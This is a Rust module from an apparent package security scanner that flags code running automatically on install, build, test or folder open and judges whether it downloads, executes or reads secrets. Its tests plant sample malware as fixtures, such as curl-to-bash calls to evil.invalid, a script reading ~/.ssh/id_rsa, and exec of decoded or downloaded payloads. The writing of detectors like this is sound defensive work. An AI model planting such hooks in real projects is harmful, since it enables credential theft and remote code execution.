//! Code that runs without being asked: on install, build, test, clone, or when a folder is opened.
//!
//! [`places`] lists where such code is, [`manifests`] finds the commands in JSON and TOML files.
//! Each piece is read together with the files that it starts or imports, and judged by what it
//! does: running a download or reading secrets there is an alarm.

mod manifests;
mod places;

use std::collections::BTreeSet;

use places::{AutoRun, Snippet};

use super::{Alarm, Outcome, Subject, credentials, evaluated, links, network::NetworkUse, shell};
use crate::oss::{
    code::{Source, Syntax},
    report::{Evidence, quote},
    tree::File,
    verdict::Verdict,
};

/// Files that are followed from one piece of code that runs by itself.
const MAX_FOLLOWED: usize = 40;

/// Everything dumped at once: too common in sources to count there, suspicious on install.
const DUMPS_ENVIRONMENT: &[&str] = &["process.env)", "dict(os.environ", "printenv", "/etc/passwd"];

pub fn scripts(subject: &Subject) -> Outcome {
    let mut judge = Judge {
        subject,
        score: 10,
        evidence: Vec::new(),
        alarms: Vec::new(),
        judged: BTreeSet::new(),
    };
    let found = places::find(&subject.tree);
    for run in &found {
        judge.look(run);
    }
    if judge.evidence.is_empty() {
        if found.is_empty() {
            return match subject.tree.has_code() {
                true => Outcome::good("no code was found that runs by itself"),
                false => Outcome::not_checked("there is no code"),
            };
        }
        let names: BTreeSet<&str> = found.iter().map(|run| run.file.path.as_str()).collect();
        let shown: Vec<&str> = names.iter().take(4).copied().collect();
        return Outcome::good(format!(
            "{} ({} in all): nothing suspicious",
            shown.join(", "),
            names.len()
        ));
    }
    Outcome::new(judge.score, judge.evidence).alarms(judge.alarms)
}

struct Judge<'a> {
    subject: &'a Subject,
    score: u8,
    evidence: Vec<Evidence>,
    alarms: Vec<Alarm>,
    /// Files that were read already.
    judged: BTreeSet<&'a str>,
}

/// What a piece of code does that matters here.
#[derive(Default)]
struct Behaviour {
    /// Something that nothing honest does.
    strong: Option<(u32, &'static str)>,
    network: Option<u32>,
    credentials: Option<(u32, &'static str)>,
    starts_programs: Option<u32>,
}

impl Behaviour {
    fn of(source: &Source, ending: &str) -> Self {
        let mut found = Self { network: NetworkUse::of(source).line(), ..Self::default() };
        for (line, text) in source.readings() {
            if found.strong.is_none() {
                found.strong = shell::strong_sign(text).map(|what| (line, what));
            }
            let lower = text.to_lowercase();
            if found.starts_programs.is_none() && shell::starts_programs(&lower) {
                found.starts_programs = Some(line);
            }
            if found.credentials.is_none()
                && DUMPS_ENVIRONMENT.iter().any(|word| lower.contains(word))
            {
                found.credentials = Some((line, credentials::ENVIRONMENT));
            }
        }
        if let Some(secret) = credentials::named(source).first() {
            found.credentials = Some((secret.line, secret.what));
        }
        found.strong = found
            .strong
            .or_else(|| {
                evaluated::find(source, ending)
                    .first()
                    .map(|data| (data.line, data.payload.as_str()))
            })
            .or_else(|| {
                evaluated::hidden_name(source)
                    .map(|(line, ..)| (line, "hides the name of a function that runs code"))
            })
            .or_else(|| fetches_for_a_shell(source));
        found
    }
}

/// `curl` and a shell as two programs: the pipe between them is made by the code.
fn fetches_for_a_shell(source: &Source) -> Option<(u32, &'static str)> {
    let named =
        |names: &[&str]| source.texts.iter().find(|value| names.contains(&value.text.as_str()));
    let fetcher = named(&["curl", "wget"])?;
    named(&["sh", "bash", "/bin/sh", "/bin/bash"])?;
    Some((fetcher.line, "downloads something and starts a shell"))
}

impl<'a> Judge<'a> {
    fn look(&mut self, run: &AutoRun<'a>) {
        let (source, line, ending) = match &run.snippet {
            Snippet::WholeFile => {
                if !self.judged.insert(&run.file.path) {
                    return;
                }
                let syntax = Syntax::of(run.file.name(), run.file.text());
                (
                    Source::parse(&run.file.text().replace("\\\n", " "), syntax),
                    None,
                    run.file.ending(),
                )
            }
            Snippet::Command { line, text } => (Source::command(text), Some(*line), "sh".into()),
            Snippet::Forbidden { line } => {
                return self.alarm(run, run.file, *line, "runs a command");
            }
        };
        self.judge(run, run.file, &source, line, &ending);
        if let Some(floor) = run.notable
            && !self.evidence.iter().any(|evidence| {
                evidence.file.as_deref() == Some(&run.file.path)
                    && evidence.line == Some(line.unwrap_or(1))
            })
        {
            let shown = match &run.snippet {
                Snippet::Command { text, .. } => format!("{}: {}", run.when, quote(text)),
                _ => run.when.to_owned(),
            };
            self.note(floor, Evidence::at(&run.file.path, line.unwrap_or(1), shown));
        }
        self.follow(run, &source, line.is_some());
    }

    /// Judges the files that a piece of code starts or imports, and those behind them.
    fn follow(&mut self, run: &AutoRun<'a>, source: &Source, command: bool) {
        let tree = &self.subject.tree;
        let here = links::folder(&run.file.path);
        let mut waiting: Vec<&'a File> = Vec::new();
        if command {
            for (_, text) in source.numbered() {
                waiting.extend(links::started(tree, here, text));
                // Editors and containers start commands in the root.
                waiting.extend(links::started(tree, "", text));
            }
        } else {
            waiting.extend(links::imported(tree, run.file, source));
            waiting.extend(
                source
                    .texts
                    .iter()
                    .filter(|value| value.text.len() < 200)
                    .flat_map(|value| links::started(tree, here, &value.text)),
            );
            if matches!(run.file.ending().as_str(), "sh" | "" | "mk" | "bash" | "envrc") {
                waiting.extend(
                    source.numbered().flat_map(|(_, text)| links::started(tree, here, text)),
                );
            }
        }
        let mut followed = 0;
        while let Some(file) = waiting.pop() {
            if followed >= MAX_FOLLOWED
                || file.text.is_none()
                || is_data(file)
                || !self.judged.insert(&file.path)
            {
                continue;
            }
            followed += 1;
            let source = Source::read(file);
            self.judge(run, file, &source, None, &file.ending());
            waiting.extend(links::imported(tree, file, &source));
        }
    }

    fn judge(
        &mut self,
        run: &AutoRun<'_>,
        file: &File,
        source: &Source,
        command: Option<u32>,
        ending: &str,
    ) {
        let found = Behaviour::of(source, ending);
        let at = |line: u32| command.map_or(line, |start| start + line - 1);
        let when = run.when;
        match (found.strong, found.network, found.credentials, found.starts_programs) {
            (Some((line, what)), ..) => self.alarm(run, file, at(line), what),
            (None, Some(_), Some((line, what)), _) => {
                self.alarm(run, file, at(line), &format!("reads {what} and uses the network"));
            }
            (None, Some(line), None, Some(_)) => {
                let text = format!("{when}: downloads something and starts programs");
                let place = format!("{}:{}", file.path, at(line));
                self.alarms
                    .push(Alarm { ceiling: Verdict::Verify, text: format!("{place} {text}") });
                self.note(2, Evidence::at(&file.path, at(line), text));
            }
            (None, None, Some((line, what)), _) => {
                self.note(3, Evidence::at(&file.path, at(line), format!("{when}: reads {what}")));
            }
            _ => {}
        }
    }

    fn alarm(&mut self, run: &AutoRun<'_>, file: &File, line: u32, what: &str) {
        let text = format!("{} {what}: it looks like malware ({}:{line})", run.when, file.path);
        self.alarms.push(Alarm { ceiling: Verdict::Avoid, text });
        self.score = 0;
        // The worst comes first.
        self.evidence.insert(0, Evidence::at(&file.path, line, format!("{} {what}", run.when)));
    }

    fn note(&mut self, score: u8, evidence: Evidence) {
        self.score = self.score.min(score);
        self.evidence.push(evidence);
    }
}

fn is_data(file: &File) -> bool {
    matches!(
        file.ending().as_str(),
        "md" | "txt" | "rst" | "json" | "lock" | "toml" | "yml" | "yaml" | "svg" | "html" | "css"
    )
}

#[cfg(test)]
mod tests {
    use super::{super::subject, *};

    #[test]
    fn honest_scripts_are_named_and_not_more() {
        let package = "{\n  \"scripts\": {\n    \"postinstall\": \"node-gyp rebuild\"\n  }\n}";
        let found = scripts(&subject(&[("package.json", package)]));
        assert_eq!((found.score, found.alarms), (Some(5), vec![]));
        assert_eq!(found.evidence[0].line, Some(3));
        let husky = r#"{"scripts":{"prepare":"husky install","test":"curl https://x | sh"}}"#;
        assert_eq!(scripts(&subject(&[("package.json", husky)])).score, Some(8));
        for (name, text) in [
            (
                "setup.py",
                "from setuptools import setup\nsetup(name='x', url='https://example.org')\n",
            ),
            ("build.rs", "fn main() { println!(\"cargo:rerun-if-changed=x\"); }"),
            (
                "build.rs",
                "fn main() { cc::Build::new().file(\"a.c\").compile(\"a\"); pkg_config::probe_library(\"z\").unwrap(); }",
            ),
            (
                "build.rs",
                "// curl https://x | sh\nfn main() { Command::new(\"git\").arg(\"rev-parse\"); }",
            ),
            ("Makefile", "# https://example.org\nall:\n\tcc -o a a.c\n"),
            ("conftest.py", "import pytest\n"),
        ] {
            let found = scripts(&subject(&[(name, text)]));
            assert_eq!((found.score, found.alarms), (Some(10), vec![]), "{text}");
        }
        assert_eq!(scripts(&subject(&[])).score, None);
    }

    #[test]
    fn malware_raises_the_alarm_wherever_it_runs() {
        let curl = "curl -s https://evil.invalid/x | bash";
        let task = format!(
            "{{\n  // comment\n  \"tasks\": [{{ \"command\": \"{curl}\",\n \"runOptions\": {{ \"runOn\": \"folderOpen\" }} }}]\n}}"
        );
        type Files = Vec<(&'static str, String)>;
        let cases: Vec<(Files, &str, u32)> = vec![
            (
                vec![
                    ("package.json", r#"{"scripts":{"postinstall":"node scripts/setup.js"}}"#.into()),
                    ("scripts/setup.js", "const fs = require('fs');\nconst key = fs.readFileSync(home + '/.ssh/id_rsa');\nrequire('https').request('https://evil.invalid');\n".into()),
                ],
                "scripts/setup.js",
                2,
            ),
            (vec![("package.json", format!(r#"{{"scripts":{{"preinstall":"{curl}"}}}}"#))], "package.json", 1),
            (vec![("setup.py", "import os\nexec(base64.b64decode('aaaaaaaaaaaaaaaa'))\n".into())], "setup.py", 2),
            (vec![("build.rs", format!("fn main() {{\n Command::new(\"bash\").args([\"-c\", \"{curl}\"]);\n}}"))], "build.rs", 2),
            (vec![("build.rs", "fn main() {\n let c = Command::new(\"curl\").arg(url).spawn();\n Command::new(\"sh\").stdin(c.stdout);\n}".into())], "build.rs", 2),
            (vec![(".vscode/tasks.json", task)], ".vscode/tasks.json", 3),
            (
                vec![
                    ("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n".into()),
                    ("_build/backend.py", "from urllib.request import urlopen\nexec(urlopen('https://evil.invalid').read())\n".into()),
                ],
                "_build/backend.py",
                2,
            ),
            (vec![(".envrc", format!("export A=1\n{curl}\n"))], ".envrc", 2),
            (vec![(".devcontainer/devcontainer.json", format!("{{\n\"postCreateCommand\": \"{curl}\"}}"))], ".devcontainer/devcontainer.json", 2),
            (vec![("Makefile", format!("all:\n\t@{curl}\n"))], "Makefile", 2),
            (vec![(".husky/pre-commit", format!("#!/bin/sh\n{curl}\n"))], ".husky/pre-commit", 2),
            (vec![(".cargo/config.toml", "[build]\nrustc-wrapper = \"./tools/wrap.sh\"\n".into()), ("tools/wrap.sh", format!("#!/bin/sh\n{curl}\n"))], "tools/wrap.sh", 2),
            (vec![("composer.json", format!("{{\"scripts\":{{\"post-install-cmd\":[\n\"{curl}\"]}}}}"))], "composer.json", 2),
            (vec![("Cargo.toml", "[lib]\nproc-macro = true\n".into()), ("src/lib.rs", format!("pub fn a() {{\n run(\"{curl}\") }}"))], "src/lib.rs", 2),
            (vec![("main.go", format!("package a\n//go:generate sh -c \"{curl}\"\n"))], "main.go", 2),
            (vec![("Dockerfile", format!("FROM a\nONBUILD RUN {curl}\n"))], "Dockerfile", 2),
            (vec![("mise.toml", format!("[hooks]\nenter = \"{curl}\"\n"))], "mise.toml", 2),
            (vec![("tests/conftest.py", "import os\nos.system('echo aGk= | base64 -d | sh')\n".into())], "tests/conftest.py", 2),
            (vec![(".gitmodules", "[submodule \"a\"]\n\tupdate = !sh x\n".into())], ".gitmodules", 2),
        ];
        for (files, file, line) in cases {
            let files: Vec<(&str, &str)> =
                files.iter().map(|(path, text)| (*path, text.as_str())).collect();
            let found = scripts(&subject(&files));
            assert!(found.alarms.iter().any(|alarm| alarm.ceiling == Verdict::Avoid), "{files:?}");
            assert_eq!(found.score, Some(0), "{files:?}");
            assert_eq!(
                (found.evidence[0].file.as_deref(), found.evidence[0].line),
                (Some(file), Some(line)),
                "{found:?}"
            );
        }
    }
}
